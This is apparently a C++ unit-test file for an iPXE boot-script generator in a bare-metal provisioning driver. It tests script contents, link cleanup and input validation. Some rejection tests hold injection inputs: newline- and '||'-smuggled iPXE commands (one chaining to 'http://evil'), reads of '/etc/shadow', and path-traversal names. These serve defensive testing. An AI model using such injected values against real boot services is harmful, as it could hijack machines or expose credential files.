@@ -1,0 +1,187 @@
+#include "drivers/boot/ipxe_catalog.hpp"
+#include "drivers/boot/ipxe_interface.hpp"
+#include "drivers/boot/ramdisk.hpp"
+
+#include <boost/test/unit_test.hpp>
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+#include <future>
+#include <sstream>
+
+using namespace ironbus;
+namespace fs = std::filesystem;
+
+namespace {
+
+const std::string boot_uuid = "6b0b5f7a-3a0e-4a8e-9a51-0d4f0c6f1e01";
+
+bool holds(const std::string& text, std::string_view what) {
+  return text.find(what) != std::string::npos;
+}
+
+std::string text_of(const fs::path& path) {
+  std::ostringstream out;
+  out << std::ifstream{path}.rdbuf();
+  return out.str();
+}
+
+port boot_port(const std::string& mac, bool boots = true) {
+  port out;
+  out.address = mac;
+  out.pxe_enabled = boots;
+  return out;
+}
+
+struct ipxe_fixture {
+  ipxe_fixture() {
+    options.root = (root / "http").string();
+    options.service_url = "http://192.0.2.1:6385";
+    options.images.file_url_allowed_paths = {(root / "images").string()};
+    fs::create_directories(root / "images");
+    request.id.operation_id = "0d4f0c6f-3a0e-4a8e-9a51-6b0b5f7a1e02";
+    request.kind = workflow::deploy;
+    request.what.interface = "boot";
+    request.on.uuid = boot_uuid;
+    request.on.driver_info = {{"deploy_kernel", "http://192.0.2.80/kernel"},
+                              {"deploy_ramdisk", "http://192.0.2.80/ramdisk"}};
+    request.on.ports = {boot_port("52:54:00:00:00:01"), boot_port("52:54:00:00:00:02", false)};
+  }
+  ~ipxe_fixture() { fs::remove_all(root); }
+
+  step_outcome run(const char* name) {
+    ipxe_interface subject{options};
+    request.what.name = name;
+    std::promise<step_outcome> ended;
+    subject.run(request, [&](step_outcome x) { ended.set_value(std::move(x)); });
+    return ended.get_future().get();
+  }
+  std::string prepared() {
+    const auto out = run("prepare_ramdisk");
+    BOOST_REQUIRE_MESSAGE(out.status == step_status::done, out.reason);
+    return text_of(http / boot_uuid / "config");
+  }
+  std::string wrong(const json& driver_info, const driver_options& with = {}) const {
+    node_snapshot x;
+    x.about.driver_info = driver_info;
+    const auto bad = ipxe_implementations(with).at(0).validate(x);
+    return bad ? bad->message : std::string{};
+  }
+
+  fs::path root = fs::temp_directory_path() / ("ipxe_" + std::to_string(::getpid()));
+  fs::path http = root / "http";
+  boot_options options;
+  step_request request;
+};
+
+}  // namespace
+
+BOOST_FIXTURE_TEST_SUITE(ipxe, ipxe_fixture)
+
+BOOST_AUTO_TEST_CASE(the_script_says_all_that_the_agent_needs) {
+  options.agent_debug = true;
+  const auto script = prepared();
+  BOOST_TEST(script.starts_with("#!ipxe\n"));
+  BOOST_TEST(holds(script,
+                   "kernel http://192.0.2.80/kernel ipa-api-url=http://192.0.2.1:6385 "
+                   "ipa-global-request-id=req-0d4f0c6f-3a0e-4a8e-9a51-6b0b5f7a1e02 "
+                   "ipa-debug=1 nofb vga=normal BOOTIF=01-${mac:hexhyp} initrd=ramdisk"),
+             script);
+  BOOST_TEST(holds(script, "initrd --name ramdisk http://192.0.2.80/ramdisk "));
+}
+
+BOOST_AUTO_TEST_CASE(an_inspection_is_told_where_its_findings_go) {
+  request.kind = workflow::inspect;
+  BOOST_TEST(holds(prepared(),
+                   "ipa-inspection-callback-url=http://192.0.2.1:6385/v1/"
+                   "continue_inspection"));
+}
+
+BOOST_AUTO_TEST_CASE(a_rescue_boots_what_is_for_rescue) {
+  request.kind = workflow::rescue;
+  options.ramdisks.rescue_kernel = "http://192.0.2.80/rescue-kernel";
+  request.on.driver_info["rescue_ramdisk"] = "http://192.0.2.80/rescue-ramdisk";
+  const auto script = prepared();
+  BOOST_TEST(holds(script, "/rescue-kernel "));
+  BOOST_TEST(holds(script, "/rescue-ramdisk "));
+}
+
+BOOST_AUTO_TEST_CASE(further_parameters_are_the_instance_s_then_the_node_s) {
+  request.on.driver_info["kernel_append_params"] = "console=ttyS0 %default%";
+  BOOST_TEST(holds(prepared(), " console=ttyS0 nofb vga=normal BOOTIF"));
+  request.on.instance_info["kernel_append_params"] = "quiet";
+  BOOST_TEST(holds(prepared(), " quiet BOOTIF"));
+}
+
+BOOST_AUTO_TEST_CASE(only_ports_that_boot_have_a_link_and_all_go_again) {
+  const auto links = http / "pxelinux.cfg";
+  const auto script = prepared();
+  BOOST_TEST(text_of(links / "52-54-00-00-00-01") == script);
+  BOOST_TEST(!fs::exists(fs::symlink_status(links / "52-54-00-00-00-02")));
+  request.on.ports = {boot_port("52:54:00:00:00:03")};  // the port has been changed meanwhile
+  BOOST_TEST((run("clean_up_ramdisk").status == step_status::done));
+  BOOST_TEST(fs::is_empty(links));
+  BOOST_TEST(!fs::exists(http / boot_uuid));
+  BOOST_TEST((run("clean_up_ramdisk").status == step_status::done));  // again: nothing to do
+}
+
+BOOST_AUTO_TEST_CASE(the_link_of_a_mac_that_is_another_node_s_by_now_stays) {
+  prepared();
+  const auto link = http / "pxelinux.cfg/52-54-00-00-00-01";
+  fs::remove(link);
+  fs::create_symlink("../another/config", link);
+  run("clean_up_ramdisk");
+  BOOST_TEST(fs::read_symlink(link) == "../another/config");
+}
+
+BOOST_AUTO_TEST_CASE(images_on_files_are_copied_to_where_machines_can_fetch_them) {
+  std::ofstream{root / "images/kernel.img"} << "vmlinuz";
+  request.on.driver_info["deploy_kernel"] = "file://" + (root / "images/kernel.img").string();
+  const auto script = prepared();
+  BOOST_TEST(holds(script, "kernel http://192.0.2.1:6385/v1/boot/" + boot_uuid + "/kernel "));
+  BOOST_TEST(text_of(http / boot_uuid / "kernel") == "vmlinuz");
+  request.on.driver_info["deploy_kernel"] = "file:///etc/hostname";
+  BOOST_TEST(holds(run("prepare_ramdisk").reason, "not below"));
+}
+
+BOOST_AUTO_TEST_CASE(what_cannot_be_written_or_told_fails_the_step) {
+  options.service_url = "";
+  BOOST_TEST(holds(run("prepare_ramdisk").reason, "agent.service_url"));
+  options.service_url = "http://192.0.2.1";
+  std::ofstream{root / "plain"} << "no folder";
+  options.root = (root / "plain").string();
+  BOOST_TEST(holds(run("prepare_ramdisk").reason, "cannot be written"));
+}
+
+BOOST_AUTO_TEST_CASE(odd_names_become_no_paths) {
+  request.on.ports = {boot_port("../../../etc/x"), boot_port("52:54:00:00:00:01/..")};
+  prepared();
+  BOOST_TEST(fs::is_empty(http / "pxelinux.cfg"));
+  request.on.uuid = "../outside";
+  BOOST_TEST((run("prepare_ramdisk").status == step_status::failed));
+  run("clean_up_ramdisk");
+  BOOST_TEST(fs::exists(root / "images"));
+}
+
+BOOST_AUTO_TEST_CASE(what_a_node_says_is_checked) {
+  const json good = {{"deploy_kernel", "http://h/k"}, {"deploy_ramdisk", "https://h/r"}};
+  BOOST_TEST(wrong(good) == "");
+  BOOST_TEST(holds(wrong({{"deploy_kernel", "http://h/k"}}), "deploy_ramdisk"));
+  driver_options configured;
+  configured.ramdisks.deploy_kernel = "http://h/k";
+  configured.ramdisks.deploy_ramdisk = "http://h/r";
+  BOOST_TEST(wrong(json::object(), configured) == "");
+  const auto with = [&](const char* key, const json& value) {
+    auto out = good;
+    out[key] = value;
+    return wrong(out);
+  };
+  BOOST_TEST(holds(with("deploy_kernel", "ftp://h/k"), "allowed: http://"));
+  BOOST_TEST(holds(with("deploy_kernel", "http://h/k\nexit"), "deploy_kernel"));
+  BOOST_TEST(holds(with("deploy_kernel", "file:///etc/shadow"), "not below"));
+  BOOST_TEST(holds(with("kernel_append_params", "quiet\nchain http://evil"), "line breaks"));
+  BOOST_TEST(holds(with("kernel_append_params", "quiet || exit"), "||"));
+}
+
+BOOST_AUTO_TEST_SUITE_END()
